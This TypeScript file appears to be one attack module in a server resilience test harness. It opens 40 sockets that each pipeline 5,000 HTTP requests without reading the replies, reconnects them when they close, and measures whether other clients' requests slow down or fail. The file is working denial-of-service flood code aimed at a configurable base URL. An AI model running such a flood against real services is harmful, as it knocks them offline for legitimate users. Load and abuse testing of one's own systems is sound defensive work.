import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.ts'

const SOCKET_COUNT = 40
const REQUESTS_PER_SOCKET = 5_000
const DURATION_MS = 8_000
const MAX_ANSWER_MS = 1_000
/** A closed connection is opened again after this time. */
const RECONNECT_MS = 20

/** 40 connections send 5,000 requests each without reading an answer, and again when they are closed. */
export const attack: Attack = {
  name: 'keep everybody else waiting by a few connections with thousands of pipelined requests',
  item: 2,
  async run({ baseUrl }) {
    const { hostname, port, pathname } = new URL(baseUrl)
    const path = `${pathname.replace(/\/$/, '')}/jira/projects/1`
    const flood = Buffer.from(
      `GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n\r\n`.repeat(REQUESTS_PER_SOCKET)
    )
    const sockets = new Set<Socket>()
    let isOver = false
    let connectionCount = 0
    const open = () => {
      if (isOver) return
      connectionCount++
      const socket = connect(Number(port), hostname, () => {
        socket.write(flood)
      })
      sockets.add(socket)
      socket.resume()
      socket.on('error', () => {})
      socket.once('close', () => {
        sockets.delete(socket)
        setTimeout(open, RECONNECT_MS)
      })
    }
    for (let i = 0; i < SOCKET_COUNT; i++) open()
    await sleep(200)
    const end = performance.now() + DURATION_MS
    const times: number[] = []
    let refusedCount = 0
    while (performance.now() < end) {
      const startedAt = performance.now()
      const status = await fetch(`${baseUrl}/users/1`, { signal: AbortSignal.timeout(DURATION_MS) })
        .then(async (response) => {
          await response.arrayBuffer()
          return response.status
        })
        .catch(() => 0)
      times.push(performance.now() - startedAt)
      if (status === 0 || status === 503) refusedCount++
      await sleep(50)
    }
    isOver = true
    for (const socket of sockets) socket.destroy()
    const slowest = Math.max(...times)
    return {
      reached: refusedCount > 0 || slowest > MAX_ANSWER_MS,
      evidence:
        `${times.length} calls of somebody else: slowest ${slowest.toFixed()} ms, ` +
        `${refusedCount} not answered; ${connectionCount} connections of the flood`
    }
  }
}
